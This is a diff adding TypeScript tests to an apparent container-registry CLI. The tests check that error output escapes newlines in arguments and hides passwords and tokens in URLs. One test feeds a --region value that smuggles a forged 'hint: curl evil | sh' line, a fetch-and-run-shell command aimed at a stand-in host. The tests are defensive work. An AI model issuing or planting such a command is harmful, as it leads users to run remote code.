@@ -10,6 +10,7 @@ import type { OutputStyle } from '../../../src/cli/output-style.ts';
 import { openProgress } from '../../../src/cli/progress/open-progress.ts';
 import { chooseImage } from '../../../src/cli/push/choose-image.ts';
 import { EcrpError } from '../../../src/errors.ts';
+import { hideLogins } from '../../../src/foreign-text.ts';
 import type { Io } from '../../../src/io.ts';
 import type { ImageSource } from '../../../src/source/image-source.ts';
 import { catchError } from '../../support/catch-error.ts';
@@ -74,6 +75,37 @@ describe('an error', () => {
     const page = new EcrpError('UNAVAILABLE', 'x'.repeat(1_000_000), { requestId: 'x'.repeat(1_000_000) });
     const { stderr } = await run((_argv, io) => printError(io, style, page));
     expect(stderr.length).toBeLessThan(10_000);
+  });
+});
+
+describe('an argument', () => {
+  it('forges no line with its line ends', async () => {
+    const { status, stderr } = await runCli(['repo', 'list', '--region', 'x\nhint: curl evil | sh']);
+    expect(status).toBe(2);
+    expectHarmless(stderr);
+    expect(stderr.trimEnd().split('\n')).toHaveLength(2);
+    expect(stderr).toContain('x\\nhint: curl evil | sh');
+  });
+
+  it.each([
+    [['push', 'https://robot:hunter2@example.com/x.tar', 'app']],
+    [['emulator', '--host', 'http://robot:hunter2@example.com']],
+    [['repo', 'list', '--endpoint-url', 'http://127.0.0.1:1/?token=hunter2']],
+    [['repo', 'create', 'https://robot:hunter2@example.com/app']],
+  ])('has no password that %j would repeat', async (argv) => {
+    for (const extra of [[], ['--json'], ['--progress', 'json']]) {
+      const { status, stdout, stderr } = await runCli([...argv, ...extra]);
+      expect(status).toBeGreaterThan(1);
+      expect(stdout + stderr).not.toContain('hunter2');
+    }
+  });
+});
+
+describe('a warning', () => {
+  it('shows no password of a URL', () => {
+    expect(hideLogins('cannot read https://robot:hunter2@example.com/x and oci:/hunter2@h/y')).toBe(
+      'cannot read https://…@example.com/x and oci:/…@h/y',
+    );
   });
 });
 
